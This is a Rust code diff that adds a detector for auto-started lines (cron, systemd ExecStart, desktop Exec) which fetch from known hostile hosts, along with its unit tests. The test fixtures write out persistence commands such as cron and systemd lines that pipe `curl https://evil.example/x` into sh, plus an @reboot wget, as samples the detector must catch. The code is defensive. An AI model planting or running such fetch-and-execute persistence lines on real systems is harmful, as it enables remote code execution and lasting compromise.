@@ -54,10 +54,40 @@ pub fn addresses(text: &str, interest: &Interest, held: Option<Held>) -> Vec<Fac
     found.into_iter().map(|(kind, value, held)| fact(kind, &value, held)).collect()
 }
 
+/// What lines that start by themselves fetch from known addresses, and the texts of payloads in them. Before the command there may be anything:
+/// a key, times, an account.
+pub fn started(text: &str, interest: &Interest) -> Vec<Fact> {
+    let texts = texts(text, interest, Held::Starts);
+    if !interest.traces.may_name_network(text.as_bytes()) {
+        return texts;
+    }
+    let mut found = Vec::new();
+    for line in text.lines().filter(|line| line.len() <= LINE && !only_mentions(line)) {
+        let starts = line.char_indices().filter(|(at, _)| {
+            let before = line.get(..*at).and_then(|l| l.chars().next_back());
+            before.is_none_or(|c| !(c.is_ascii_alphanumeric() || "-_.".contains(c)))
+        });
+        let is_program = |rest: &&str| {
+            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).unwrap_or(rest.len());
+            rest.get(..end).is_some_and(shell::is_fetch)
+        };
+        let first = starts.filter_map(|(at, _)| line.get(at..)).find(is_program);
+        let new = first.map(|rest| addresses(rest, interest, Some(Held::Starts))).unwrap_or_default();
+        found.extend(new.into_iter().filter(|fact| !found.contains(fact)).collect::<Vec<_>>());
+    }
+    found.extend(texts);
+    found
+}
+
 /// The texts of payloads that lines of a text hold, where the line does not only look for them or print them.
 pub fn texts(text: &str, interest: &Interest, held: Held) -> Vec<Fact> {
-    let lines = text.lines().filter(|line| line.len() <= LINE && !only_mentions(line));
-    let found: BTreeSet<&str> = lines.flat_map(|line| interest.traces.texts_in(line.as_bytes())).collect();
+    let of_line = |line: &str| {
+        let found = interest.traces.texts_in(line.as_bytes()).into_iter();
+        // What stands before a text says whether it is looked for; the text itself may hold any word.
+        found.filter(|(at, _)| !line.get(..*at).is_some_and(only_mentions)).map(|(_, value)| value).collect::<Vec<_>>()
+    };
+    let lines = text.lines().filter(|line| line.len() <= LINE);
+    let found: BTreeSet<&str> = lines.flat_map(of_line).collect();
     found.into_iter().map(|value| fact(TraceKind::Text, value, held)).collect()
 }
 
@@ -89,6 +119,29 @@ mod tests {
         assert_eq!(of("ssh b curl evil.example"), [fact(TraceKind::Host, "evil.example", Held::Named)]);
         assert!(of("curl https://good.example").is_empty() && of("whois evil.example").is_empty());
         assert!(of(&format!("curl evil.example {}", "x".repeat(70_000))).is_empty());
+    }
+
+    #[test]
+    fn what_starts_by_itself_may_stand_behind_anything() {
+        let of = |text: &str| started(text, &interest());
+        let host = [fact(TraceKind::Host, "evil.example", Held::Starts)];
+        for line in [
+            "*/5 * * * * root curl -s https://evil.example/x | sh",
+            "@reboot /usr/bin/wget -qO- evil.example/x",
+            "ExecStart=/bin/sh -c 'curl https://evil.example/x | sh'",
+            "Exec=sh -c \"curl https://evil.example/x\"",
+        ] {
+            assert_eq!(of(line), host, "{line}");
+        }
+        for line in [
+            "# * * * * * curl https://evil.example/x",
+            "* * * * * root /sbin/iptables -A OUTPUT -d evil.example -j DROP",
+            "ExecStart=/usr/bin/monitor --block evil.example",
+            "* * * * * curl https://good.example/?x=evil.example",
+            "* * * * * echo curl https://evil.example",
+        ] {
+            assert!(of(line).is_empty(), "{line}");
+        }
     }
 
     #[test]
